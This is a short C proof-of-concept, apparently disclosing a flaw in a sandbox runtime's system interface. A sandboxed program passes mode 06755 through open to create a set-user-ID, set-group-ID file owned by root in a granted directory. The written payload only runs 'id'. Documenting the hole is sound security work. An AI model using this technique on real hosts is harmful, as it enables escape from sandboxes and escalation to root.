/* suid.c: through the system interface a sandboxed program creates a
 * set-user-ID and set-group-ID executable in a granted directory
 * (sys/open.c passes mode & 07777 to openat2; mkdir likewise). With the
 * host running as root, the file is -rwsr-sr-x root root. */
#include <fcntl.h>
#include <unistd.h>
int main(void) {
  int fd = open("/data/x", O_CREAT | O_WRONLY, 06755);
  write(fd, "#!/bin/sh\nid\n", 13);
  close(fd);
  return 0;
}
